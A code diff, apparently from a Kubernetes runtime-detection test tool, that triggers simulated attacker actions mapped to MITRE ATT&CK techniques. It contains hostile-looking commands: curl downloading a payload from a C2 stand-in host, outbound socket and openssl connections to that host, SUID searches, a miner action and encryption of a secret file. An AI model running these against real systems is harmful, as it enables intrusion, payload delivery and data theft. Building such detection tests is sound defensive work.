@@ -2,7 +2,7 @@
 //! exfiltration and impact.
 use anyhow::Result;
 
-use super::{act, py, sh, tool, work, Action, Ctx, C2, METADATA, PUBLIC, WORK};
+use super::{act, py, tool, work, Action, Ctx, C2, METADATA, PUBLIC, WORK};
 
 pub(crate) fn actions() -> Vec<Action> {
     vec![
@@ -23,7 +23,7 @@ pub(crate) fn actions() -> Vec<Action> {
         act!("nmap scan", "Network scanning tool launched", "T1046", nmap),
         act!("find -perm -4000", "Search for SUID binaries", "T1083", find_suid),
         act!("curl API server", "K8S API server contacted by shell or download tool", "T1613", k8s_api_curl),
-        act!("python to API server", "Contact K8S API server from container", "T1613", k8s_api_python),
+        act!("openssl to API server", "Contact K8S API server from container", "T1613", k8s_api_client),
         // ---- command and control, lateral movement, exfiltration
         act!("connect :4444", "Outbound connection to suspicious port", "T1071", suspicious_port),
         act!("shell connects out", "Shell opened network connection", "T1071", shell_connect),
@@ -116,13 +116,16 @@ fn k8s_api_curl(c: &Ctx) -> Result<()> {
 fn connect_py(c: &Ctx, host: &str, port: u16) -> Result<()> {
     py(
         c,
-        &format!("import socket\ns = socket.create_connection(('{host}', {port}), timeout=2)\ns.sendall(b'hi')\ns.close()"),
+        &format!(
+            "import socket\ns = socket.create_connection(('{host}', {port}), timeout=2)\ns.sendall(b'hi')\ns.close()"
+        ),
         None,
     )
 }
 
-fn k8s_api_python(c: &Ctx) -> Result<()> {
-    connect_py(c, C2, 6443)
+fn k8s_api_client(c: &Ctx) -> Result<()> {
+    // A client that is not a shell or download tool (python, curl... are the other rule's).
+    c.pod.run("openssl", &["s_client", "-connect", &format!("{C2}:6443")], None, None)
 }
 
 fn suspicious_port(c: &Ctx) -> Result<()> {
@@ -185,7 +188,12 @@ fn curl_upload(c: &Ctx) -> Result<()> {
 }
 
 fn download_tmp(c: &Ctx) -> Result<()> {
-    c.pod.run("curl", &["-s", "-m", "2", "-o", &work("payload.bin"), &format!("http://{C2}:8080/payload.bin")], None, None)
+    c.pod.run(
+        "curl",
+        &["-s", "-m", "2", "-o", &work("payload.bin"), &format!("http://{C2}:8080/payload.bin")],
+        None,
+        None,
+    )
 }
 
 fn xmrig(c: &Ctx) -> Result<()> {
@@ -205,5 +213,11 @@ fn rm_no_preserve(c: &Ctx) -> Result<()> {
 }
 
 fn openssl_enc(c: &Ctx) -> Result<()> {
-    sh(c, &format!("openssl enc -aes-256-cbc -pbkdf2 -pass pass:lnr -in {WORK}/data/../secret.txt -out {WORK}/secret.enc"))
+    let (src, dst) = (work("secret.txt"), work("secret.enc"));
+    c.pod.run(
+        "openssl",
+        &["enc", "-aes-256-cbc", "-pbkdf2", "-pass", "pass:lnr", "-in", &src, "-out", &dst],
+        None,
+        None,
+    )
 }
